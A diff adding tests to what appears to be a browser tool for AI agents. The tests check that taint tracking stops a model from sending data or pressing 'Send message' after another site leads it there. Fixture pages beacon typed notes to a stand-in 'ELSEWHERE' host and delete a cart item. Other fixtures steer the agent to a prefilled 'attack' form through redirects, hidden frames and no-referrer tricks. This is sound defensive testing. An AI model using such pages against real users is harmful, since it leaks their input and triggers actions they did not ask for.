@@ -159,3 +159,101 @@ async def test_without_rules_nothing_is_traced_and_every_page_opens(session: Ses
     assert (await session.call_as("model", "fill", ref=at["Find"], value=CODE)).ok
     assert (await session.call_as("model", "new_tab", url=f"{serve.other_site}/linked?{CODE}")).ok
     assert not any(tab.core.taint.holds for tab in session.tabs.all())
+
+
+LISTENER = """<title>Lead</title><script>
+new BroadcastChannel('notes').onmessage = event => {
+  fetch('/notes', { method: 'POST', body: event.data });
+  new Image().src = 'ELSEWHERE/note?' + event.data;
+};
+addEventListener('storage', () => fetch('/cart/7', { method: 'DELETE' }));
+const ping = () => fetch('/ping', { method: 'POST' }).then(() => 'sent', () => 'stopped');</script>"""
+SPEAKER = """<input aria-label=Note oninput="new BroadcastChannel('notes').postMessage(value)">
+<button onclick="localStorage.cart = Math.random()">Sync</button>"""
+
+
+async def test_a_tab_in_which_only_the_user_acted_is_bound_once_a_model_acts_elsewhere(
+    session: Session, serve: PageServer
+):
+    serve(SPEAKER, "/other")
+    await opened(session, serve, LISTENER)
+    lead = session.tab
+    await session.call_as("model", "new_tab", url=f"{serve.origin}/other")
+    at = await refs(session)
+    await session.call_as("model", "fill", ref=at["Note"], value=CODE)
+    await session.call_as("model", "click", ref=at["Sync"])
+    # Messages come in order, so what they lead to is decided by then.
+    await session.call_as("model", "wait", seconds=0.5)
+    assert posted(serve) == []
+    assert not [one for one in asked_elsewhere(serve) if one.startswith("/note")]
+    await session.call("switch_tab", tab=lead.id)
+    await session.call("reload")
+    assert await lead.page.evaluate("ping()") == "sent"
+
+
+COMPOSE = """<form method=post action=/sent><textarea name=b id=b aria-label=Message></textarea>
+<button>Send message</button></form>
+<script>b.value = new URLSearchParams(location.search || location.hash.slice(1)).get('b')</script>"""
+
+
+def leads_to(serve: PageServer, way: str) -> str:
+    """An address of another site that has /compose filled in."""
+    there = serve.origin + "/compose?b=attack"
+    pages = {
+        "script": f"<script>location = '{there}'</script>",
+        "hidden sender": f"<meta name=referrer content=no-referrer><script>location = '{there}'</script>",
+        "frame": f"<iframe src='{there}' width=500 height=400></iframe>",
+        "hidden frame": f"<iframe src='{there}' referrerpolicy=no-referrer width=500 height=400></iframe>",
+        "window": f"<a href='{there}' target=other>Open</a>",
+        "later": f"<a href=#x onclick='w = open(`/blank`); setTimeout(() => w.location = `{there}`, 500)'>Open</a>",
+        "link": f"<a href='{there}'>{there}</a>",
+    }
+    if way in pages:
+        serve(pages[way], "/led")
+    else:
+        serve("", "/led", status=302, headers={"Location": there.replace("?", "#" if way == "fragment" else "?")})
+    return serve.other_site + "/led"
+
+
+async def presses_send(session: Session, serve: PageServer, way: str) -> bool:
+    """Whether a press on the user's "Send message" is let through, after another site led to the form."""
+    serve(COMPOSE, "/compose")
+    serve("<title>Blank</title>", "/blank")
+    led = leads_to(serve, way)
+    await session.call("goto", url=serve(f"<a href='{led}'>Out</a><a href=/compose>Write</a>", "/start"))
+    await session.call_as("model", "snapshot")
+    await session.call_as("model", "goto", url=led)
+    if way in ("window", "later"):
+        await session.call_as("model", "click", ref=(await refs(session))["Open"])
+        await session.call_as("model", "switch_tab", tab=(await session.tabs.list())[-1].id)
+        await session.tab.page.wait_for_url("**/compose*", timeout=5000)
+    elif way == "link":
+        await session.call_as("model", "snapshot")
+        await session.call_as("model", "goto", url=serve.origin + "/start")
+        await session.call_as("model", "goto", url=serve.origin + "/compose?b=attack")
+    elif "frame" not in way:
+        await session.tab.page.wait_for_url("**/compose*", timeout=5000)
+    return await as_model(session, "click", ref=(await refs(session))["Send message"])
+
+
+LED = ["link", "window", "later", "redirect", "fragment", "script", "hidden sender", "frame", "hidden frame"]
+
+
+async def test_what_another_site_fills_in_by_an_address_is_asked_however_it_is_opened(
+    session: Session, serve: PageServer
+):
+    session.provenance.words.add_text("Send the shop the message: hello there")
+    assert [way for way in LED if await presses_send(session, serve, way)] == []
+    assert posted(serve) == []
+    # A page of the site itself fills in nothing that another one made.
+    await session.call_as("model", "goto", url=serve.origin + "/start")
+    await session.call_as("model", "click", ref=(await refs(session))["Write"])
+    at = await refs(session)
+    await session.call_as("model", "fill", ref=at["Message"], value="hello there")
+    assert await as_model(session, "click", ref=at["Send message"])
+    assert posted(serve) == [b"b=hello+there"]
+
+
+async def test_firefox_asks_for_it_too(firefox_session: Session, serve: PageServer):
+    firefox_session.provenance.words.add_text("Send the shop the message: hello there")
+    assert [way for way in LED if await presses_send(firefox_session, serve, way)] == []
